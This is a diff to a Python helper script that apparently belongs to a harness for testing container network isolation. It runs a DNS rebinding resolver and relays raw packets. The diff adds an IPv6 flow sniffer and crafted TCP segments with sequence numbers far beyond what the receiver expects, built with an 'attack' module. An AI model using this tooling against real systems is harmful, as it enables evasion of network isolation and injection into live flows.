@@ -1,12 +1,31 @@
 # Whom guarded containers may ask, in the internet. Sends the packets that it is asked to send, whatever they say of
-# themselves; and answers questions for names below rebind.tunnel.example.net: with an address of the internet at
+# themselves, segments of IPv6 also far beyond what the flow's other end awaits; and answers questions for names below rebind.tunnel.example.net: with an address of the internet at
 # first, and from then on with the address that the name's second label tells. argv: where it is asked to send, and
 # the address and port of questions.
 
 import base64, socket, struct, sys, threading
+from attack import ip6, tcp_at
 
 FIRST4, FIRST6 = "203.0.113.89", "2001:db8:2::59"
 ally, resolver, port = sys.argv[1:4]
+
+
+# What the containers' ends of TCP flows of IPv6 await next, by their ports.
+awaited = {}
+
+
+def watch_flows():
+    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x86DD)) as s:
+        while True:
+            packet = s.recv(2048)
+            if packet[6] == 6 and packet[53] & 16 and packet[42:44] == struct.pack("!H", 9000):
+                awaited[struct.unpack("!H", packet[40:42])[0]] = struct.unpack("!I", packet[48:52])[0]
+
+
+def beyond(packet):
+    src, dst = (socket.inet_ntop(socket.AF_INET6, packet[at:at + 16]) for at in (8, 24))
+    sport, dport = struct.unpack("!HH", packet[40:44])
+    return ip6(src, dst, 6, tcp_at(src, dst, sport, dport, (awaited[dport] + (1 << 29)) % (1 << 32), packet[60:]))
 
 
 def throw():
@@ -16,7 +35,13 @@ def throw():
         s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 20)
         s.bind((ally, 7000))
         while True:
-            packet = base64.b64decode(s.recv(65535))
+            order, _, packet = s.recv(65535).rpartition(b" ")
+            packet = base64.b64decode(packet)
+            try:
+                packet = beyond(packet) if order == b"beyond" else packet
+            except KeyError as error:
+                print("no flow from port", error, flush=True)
+                continue
             v6 = packet[0] >> 4 == 6
             to = socket.inet_ntop(socket.AF_INET6, packet[24:40]) if v6 else socket.inet_ntoa(packet[16:20])
             try:
@@ -58,5 +83,6 @@ def rebind():
                 print(peer, error, flush=True)
 
 
+threading.Thread(target=watch_flows, daemon=True).start()
 threading.Thread(target=throw, daemon=True).start()
 rebind()
